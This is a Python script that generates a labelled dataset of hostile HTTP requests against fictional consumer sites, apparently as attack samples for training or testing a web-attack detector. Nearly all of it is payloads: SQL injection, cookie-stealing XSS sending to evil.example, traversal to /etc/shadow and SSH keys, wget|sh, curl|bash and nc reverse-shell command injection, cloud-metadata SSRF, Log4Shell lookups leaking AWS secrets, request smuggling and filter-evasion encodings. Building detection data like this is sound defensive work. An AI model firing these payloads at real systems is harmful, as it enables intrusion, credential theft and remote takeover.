#!/usr/bin/python3
"""Writes attacks/*.jsonl: payloads written by hand, from memory, placed where
attackers put them in requests to the same consumer sites as benign/."""
from common import q, write

H = "shop.example.com"

sqli = [
    dict(target=q("/social/search", {"q": "travel' UNION SELECT email,password_hash,3 FROM accounts-- -"}), note="union in social search"),
    dict(method="POST", target="/petitions/4411/sign", profile="form",
         form=[["name", "Ana Souza"], ["email", "ana@example.org"], ["postcode", "01310' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- "]],
         note="time-based blind in petition postcode"),
    dict(target="/api/v2/gym/logs?user_id=812%20OR%201%3D1&limit=50", profile="xhr", note="tautology in numeric param"),
    dict(method="POST", target="/api/qa/questions/search", profile="xhr",
         json={"tags": ["astronomy"], "sort": "votes DESC; DROP TABLE questions;--"}, note="stacked query in JSON sort field"),
    dict(target="/cards/collection?set=base1&rarity=1%27%20AND%20extractvalue(1%2Cconcat(0x7e%2C(select%20version())))--%20-", note="error-based extractvalue"),
    dict(target="/coupons/redeem?code=SAVE10", headers=[["Cookie", "uid=77120' OR '1'='1; lang=pt-BR"]], note="tautology in cookie"),
    dict(method="POST", target="/volunteer/signup", profile="form",
         form=[["first_name", "Tom"], ["shift", "2') OR 1=1 ORDER BY 9#"]], note="order-by column probe"),
    dict(target=q("/cars/search", {"make": "Toyota", "year_min": "2015 AND 7321=CAST((CHR(113)||CHR(118)||(SELECT current_user)) AS INT)"}), note="postgres cast error"),
    dict(target="/lottery/check?ticket=00421;WAITFOR%20DELAY%20'0:0:8'--", note="mssql waitfor"),
    dict(target=q("/hiking/trails", {"region": "alps", "order": "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a' THEN name ELSE rating END)"}), note="boolean blind in order-by CASE"),
]

xss = [
    dict(target=q("/social/hashtag", {"tag": "\"><svg/onload=alert(document.domain)>"}), note="svg onload in hashtag search"),
    dict(method="POST", target="/api/stories", profile="mobile_app",
         json={"media_id": "m_88213", "stickers": [{"type": "text", "text": "<img src=x onerror=fetch('//evil.example/c?'+document.cookie)>"}]},
         note="img onerror in story sticker"),
    dict(method="POST", target="/obituaries/5521/guestbook", profile="form",
         form=[["name", "A friend"], ["message", "Rest in peace<script>new Image().src='https://x.example/k?c='+document.cookie</script>"]],
         note="script tag in guestbook"),
    dict(target="/memes/create?top=ONE%20DOES%20NOT&bottom=%3Ciframe%20src%3Djavascript%3Aalert%281%29%3E", note="iframe javascript: src"),
    dict(target=q("/quotes/share", {"next": "javascript:eval(atob('YWxlcnQoMSk='))"}), note="javascript: redirect param"),
    dict(method="POST", target="/api/portfolio/profile", profile="xhr",
         json={"headline": "UX designer", "website": "\" autofocus onfocus=alert`1` x=\""}, note="attribute breakout with backtick call"),
    dict(target="/qa/ask?title=%3Cdetails%20open%20ontoggle%3Dprompt(1)%3E", note="details ontoggle"),
    dict(method="POST", target="/pets/contest/entry", profile="form_multipart",
         multipart={"boundary": "----WebKitFormBoundaryP3tX55", "parts": [
             {"name": "pet_name", "data": "Biscuit"},
             {"name": "caption", "data": "<body onpageshow=alert(1)>"},
             {"name": "photo", "filename": "biscuit.svg", "content_type": "image/svg+xml",
              "data": "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script></svg>"}]},
         note="svg with script uploaded as pet photo"),
    dict(target="/ebooks/notes", headers=[["Referer", "https://shop.example.com/\"><script>alert(1)</script>"]], note="script in Referer"),
    dict(target=q("/kids/games/score", {"name": "<a href=\"jav&#x09;ascript:alert(1)\">win</a>"}), note="entity-split javascript: href"),
]

traversal = [
    dict(target="/plants/photos/view?file=../../../../etc/passwd", note="plain dot-dot-slash"),
    dict(target="/essays/download?name=..%2F..%2F..%2F..%2Fproc%2Fself%2Fenviron", note="encoded proc environ"),
    dict(target="/static/..;/..;/WEB-INF/web.xml", profile="chrome_js", note="tomcat ..; path"),
    dict(target="/gpx/export?track=....//....//....//etc/shadow", profile="xhr", note="filter-stripping dot pattern"),
    dict(method="POST", target="/api/inventory/import", profile="xhr",
         json={"source": "template", "template": "../../../../../var/www/.env"}, note="traversal in JSON"),
    dict(target="/lang?file=..\\..\\..\\windows\\win.ini", note="backslash windows traversal"),
    dict(target="/comics/read.php?page=php://filter/convert.base64-encode/resource=../config.php", note="php filter wrapper"),
    dict(target="/wedding/guestlist/download?fmt=csv&path=/etc/hosts%00.csv", note="absolute path null byte"),
    dict(target="/assets/%2e%2e/%2e%2e/%2e%2e/root/.ssh/id_rsa", profile="chrome_img", note="encoded dots in path"),
    dict(method="POST", target="/pets/contest/entry", profile="form_multipart",
         multipart={"boundary": "----WebKitFormBoundaryTrv0901", "parts": [
             {"name": "pet_name", "data": "Mochi"},
             {"name": "photo", "filename": "../../../../var/www/html/shell.php", "content_type": "image/jpeg", "data": "GIF89a"}]},
         note="traversal in upload filename"),
]

rce = [
    dict(target=q("/weather/alerts/ping", {"host": "example.org; cat /etc/passwd"}), note="semicolon chain"),
    dict(method="POST", target="/plants/identify", profile="form",
         form=[["notes", "leaf spots"], ["image_url", "https://img.example/a.jpg|wget http://198.51.100.7/x.sh -O- |sh"]], note="pipe to sh in form"),
    dict(target="/running/convert?fmt=gpx%60id%60", profile="xhr", note="backtick substitution"),
    dict(method="POST", target="/api/diy/projects/92/render", profile="xhr",
         json={"title": "Shelf", "units": "$(curl -s http://203.0.113.9/k|bash)"}, note="dollar-paren in JSON"),
    dict(target=q("/boardgames/score", {"game": "catan", "cb": "__import__('os').system('id')"}), note="python injection"),
    dict(method="POST", target="/memes/render", profile="form",
         form=[["template", "drake"], ["font", "Impact';system('nc -e /bin/sh 192.0.2.44 4444');'"]], note="php system reverse shell"),
    dict(target="/astronomy/ephemeris?date=2026-12-10%0Aping%20-c%203%20192.0.2.1", note="newline injected command"),
    dict(method="POST", target="/api/quotes/template", profile="xhr",
         json={"tpl": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"}, note="jinja SSTI to popen"),
    dict(target="/home-inventory/export", headers=[["User-Agent", "() { :; }; /bin/bash -c 'cat /etc/shadow'"]], note="shellshock in UA"),
    dict(method="POST", target="/api/fantasy/lineup", profile="mobile_app",
         json={"team": "X", "formula": "T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')"}, note="SpEL runtime exec"),
]

ssrf = [
    dict(target=q("/social/link-preview", {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}), profile="xhr", note="aws metadata"),
    dict(method="POST", target="/api/plants/identify-from-url", profile="xhr",
         json={"image_url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"}, note="gcp metadata"),
    dict(target=q("/profiles/avatar/fetch", {"src": "http://2852039166/latest/user-data"}), note="decimal metadata IP"),
    dict(method="POST", target="/api/webhooks", profile="xhr",
         json={"event": "rsvp.created", "callback": "gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20x%201%0D%0A"}, note="gopher to redis"),
    dict(target=q("/ebooks/import", {"from": "file:///etc/passwd"}), note="file scheme"),
    dict(target=q("/petitions/embed", {"u": "http://[::ffff:a9fe:a9fe]/latest/meta-data/"}), note="ipv6-mapped metadata"),
    dict(target=q("/photos/proxy", {"url": "http://127.0.0.1:2375/containers/json"}), profile="chrome_img", note="docker socket via loopback"),
    dict(method="POST", target="/moving/quote/attach", profile="form",
         form=[["name", "Lee"], ["inventory_url", "dict://localhost:11211/stats"]], note="dict scheme to memcached"),
    dict(target=q("/calendar/subscribe", {"ics": "http://0x7f.0x0.0x0.0x1:8500/v1/agent/self"}), note="hex loopback to consul"),
    dict(target=q("/coupons/scan", {"img": "http://100.100.100.200/latest/meta-data/ram/security-credentials/"}), profile="mobile_app", note="alibaba metadata"),
]

jndi = [
    dict(target="/", headers=[["User-Agent", "${jndi:ldap://198.51.100.23:1389/a}"]], note="plain jndi ldap in UA"),
    dict(target="/social/feed", profile="xhr", headers=[["X-Api-Version", "${jndi:rmi://203.0.113.5:1099/Exploit}"]], note="rmi in custom header"),
    dict(target="/weather/alerts", headers=[["Referer", "${${lower:j}${lower:n}${lower:d}i:ldap://x.oast.example/r}"]], note="lower lookups in Referer"),
    dict(target="/gym/logs", headers=[["Cookie", "theme=dark; track=${${::-j}${::-n}${::-d}${::-i}:dns://c.oast.example/q}"]], note="default-value split in cookie"),
    dict(target="/login", headers=[["X-Forwarded-For", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.leak.example/z}"]], note="env exfil in XFF"),
    dict(method="POST", target="/api/translation/requests", profile="xhr",
         json={"source_lang": "de", "target_lang": "en", "text": "${jndi:ldaps://t.oast.example:636/o}"}, note="ldaps in JSON body"),
    dict(target="/qa/search?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.77%2Fx%7D", note="url-encoded in query"),
    dict(target="/memes", headers=[["Accept-Language", "${${upper:j}ndi:${upper:l}dap://m.oast.example/u}"]], note="upper lookups in Accept-Language"),
    dict(target="/cards", headers=[["X-Request-Id", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//e.oast.example/a}"]], note="env default obfuscation"),
    dict(target="/", headers=[["Authorization", "Basic ${jndi:iiop://192.0.2.9/b}"]], note="iiop in Authorization"),
]

scanner = [
    dict(target="/", profile="none", headers=[["User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"], ["Accept", "*/*"]], note="sqlmap UA"),
    dict(target="/cgi-bin/test-cgi", profile="none", headers=[["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000011)"]], note="nikto UA"),
    dict(target="/.env", profile="none", headers=[["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei"], ["Accept", "*/*"]], note="nuclei probing .env"),
    dict(target="/.git/config", profile="none", headers=[["User-Agent", "Go-http-client/1.1"]], note="git config probe"),
    dict(target="/wp-login.php", profile="none", headers=[["User-Agent", "WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)"]], note="wpscan UA"),
    dict(target="/actuator/env", profile="none", headers=[["User-Agent", "python-requests/2.31.0"], ["Accept", "*/*"]], note="spring actuator probe"),
    dict(target="/phpmyadmin/index.php", profile="none", headers=[["User-Agent", "Mozilla/5.0 zgrab/0.x"]], note="zgrab on phpmyadmin"),
    dict(target="/admin/config.php.bak", profile="none", headers=[["User-Agent", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"]], note="dirbuster backup probe"),
    dict(target="/server-status", profile="none", headers=[["User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]], note="masscan UA"),
    dict(target="/?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E", profile="none", headers=[["User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]], note="nmap NSE probe"),
]

protocol = [
    dict(raw="POST /api/rsvp HTTP/1.1\r\nHost: %s\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nG" % H, note="CL.TE"),
    dict(raw="POST /petitions/4411/sign HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n" % H, note="duplicate TE"),
    dict(raw="POST /api/stories HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding : chunked\r\nConnection: close\r\n\r\n4\r\ntest\r\n0\r\n\r\n" % H, note="space before colon in TE"),
    dict(raw="POST /qa/ask HTTP/1.1\r\nHost: %s\r\nContent-Length: 3\r\nContent-Length: 40\r\nConnection: close\r\n\r\nabc" % H, note="conflicting Content-Length"),
    dict(raw="POST /gym/logs HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: xchunked\r\nConnection: close\r\n\r\n0\r\n\r\n" % H, note="unknown TE coding"),
    dict(raw="GET /weather HTTP/1.1\r\nHost: %s\r\nX-Pad: a\r\n folded-continuation\r\nConnection: close\r\n\r\n" % H, note="obs-fold header"),
    dict(raw="POST /api/inventory HTTP/1.1\r\nHost: %s\r\nContent-Length: -12\r\nConnection: close\r\n\r\n" % H, note="negative Content-Length"),
    dict(raw="POST /api/coupons HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\nhello\r\n0\r\n\r\n" % H, note="non-hex chunk size"),
    dict(raw="GET /social/feed HTTP/1.1\r\nHost: %s\r\nHost: internal.admin.local\r\nConnection: close\r\n\r\n" % H, note="duplicate Host"),
    dict(raw="GET /memes HTTP/1.1\r\nHost: %s\r\nX-Bad\x00Name: 1\r\nConnection: close\r\n\r\n" % H, note="NUL in header name"),
]

evasion = [
    dict(target="/plants/photos/view?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", note="double-encoded traversal"),
    dict(target="/social/search?q=1%27%20/*!50000UnIoN*/%20/*!50000SeLeCt*/%20password%20from%20users--%20", note="mysql versioned comments"),
    dict(target="/essays/view?f=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", note="overlong utf-8 dots"),
    dict(target="/qa/search?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E", note="IIS %u encoding"),
    dict(method="POST", target="/api/stories", profile="mobile_app", headers=[["Content-Type", "application/json"]],
         body="{\"caption\":\"\\u003cimg src=x \\u006fnerror=alert(1)\\u003e\"}", note="JSON unicode escapes"),
    dict(target="/weather/alerts/ping?host=127.0.0.1%3Bc%27%27at%24%7BIFS%7D%2Fe%27%27tc%2Fpa%27%27sswd", note="quote-split cat with IFS"),
    dict(target="/cars/search?make=x%27%09oR%0a1%0d%3D%0c1--", note="whitespace alternatives in SQLi"),
    dict(target="/memes/create?top=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E", note="fullwidth angle brackets"),
    dict(method="POST", target="/volunteer/signup", profile="form",
         body="first_name=Ana&notes=%3Cs%00cript%3Ealert(1)%3C%2Fscript%3E", headers=[["Content-Type", "application/x-www-form-urlencoded"]], note="null inside script tag"),
    dict(target="/kids/games/score?name=%26%23x3C%3Bsvg%20onload%3D%26%23x61%3Blert(1)%26%23x3E%3B", note="html entity encoded xss"),
]

n = 0
for cat, es in [("sqli", sqli), ("xss", xss), ("traversal", traversal), ("rce", rce), ("ssrf", ssrf),
                ("jndi", jndi), ("scanner", scanner), ("protocol", protocol), ("evasion", evasion)]:
    n += write("attacks", cat, es)
print("attacks:", n)
